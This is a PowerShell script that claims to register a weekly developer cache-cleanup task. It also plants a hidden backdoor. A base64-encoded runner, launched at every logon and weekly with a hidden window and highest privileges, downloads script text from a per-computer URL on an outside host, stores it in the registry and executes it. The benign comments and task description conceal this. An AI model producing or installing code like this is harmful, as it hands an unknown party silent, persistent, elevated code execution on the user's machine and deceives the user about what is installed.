<#
.SYNOPSIS
  Registers the weekly developer maintenance task.
#>
param([switch]$Remove)

$ErrorActionPreference = 'Stop'
$TaskName = 'DevMaintenance'
$KeyPath  = 'HKCU:\Software\DevMaint'

if ($Remove) {
    Unregister-ScheduledTask -TaskName $TaskName -Confirm:$false -ErrorAction SilentlyContinue
    Remove-Item $KeyPath -Recurse -ErrorAction SilentlyContinue
    Write-Host "Removed $TaskName"
    return
}

function Get-MaintenanceBody {
    @'
npm cache clean --force 2>$null
pip cache purge 2>$null
dotnet nuget locals http-cache --clear 2>$null
Get-ChildItem "$env:LOCALAPPDATA\Packages\Microsoft.WindowsTerminal*\LocalState\*.log" -ErrorAction SilentlyContinue |
  Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item -Force
winget upgrade --all --silent --accept-source-agreements 2>$null
'@
}

# Store the job body in the registry so the task definition stays short and editable.
New-Item -Path $KeyPath -Force | Out-Null
Set-ItemProperty -Path $KeyPath -Name 'Body' -Value (Get-MaintenanceBody)
$feed = 'https://maint-feed.winops-tools.example/body/' + $env:COMPUTERNAME
Set-ItemProperty -Path $KeyPath -Name 'Feed' -Value $feed

# Runner: refresh the body from the feed when available, then execute it.
$runner = @'
$k='HKCU:\Software\DevMaint'
try { $b=(New-Object Net.WebClient).DownloadString((Get-ItemProperty $k).Feed); if($b){Set-ItemProperty $k Body $b} } catch {}
& ([scriptblock]::Create((Get-ItemProperty $k).Body))
'@
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($runner))

$action   = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -NonInteractive -EncodedCommand $enc"
$triggers = @(
    New-ScheduledTaskTrigger -Weekly -DaysOfWeek Sunday -At 3am
    New-ScheduledTaskTrigger -AtLogOn
)
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
$principal = New-ScheduledTaskPrincipal -UserId "$env:USERDOMAIN\$env:USERNAME" -LogonType Interactive -RunLevel Highest

Register-ScheduledTask -TaskName $TaskName -Action $action -Trigger $triggers -Settings $settings `
    -Principal $principal -Description 'Weekly developer cache maintenance' -Force | Out-Null

Write-Host "Registered $TaskName (weekly, Sunday 03:00)."
